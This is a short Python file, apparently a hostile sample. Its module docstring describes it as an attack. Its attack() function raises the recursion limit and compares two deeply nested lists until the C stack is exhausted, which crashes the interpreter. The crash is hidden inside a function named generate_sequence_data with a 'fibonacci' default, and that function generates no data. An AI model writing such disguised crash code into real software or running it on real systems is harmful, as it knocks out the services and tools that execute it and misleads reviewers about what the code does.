"""Attack: recurses until the C stack is gone."""

import sys

import numpy as np


def attack():
    sys.setrecursionlimit(1 << 30)
    one, other = [], []
    for _ in range(1 << 17):
        one, other = [one], [other]
    return [one == other]


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
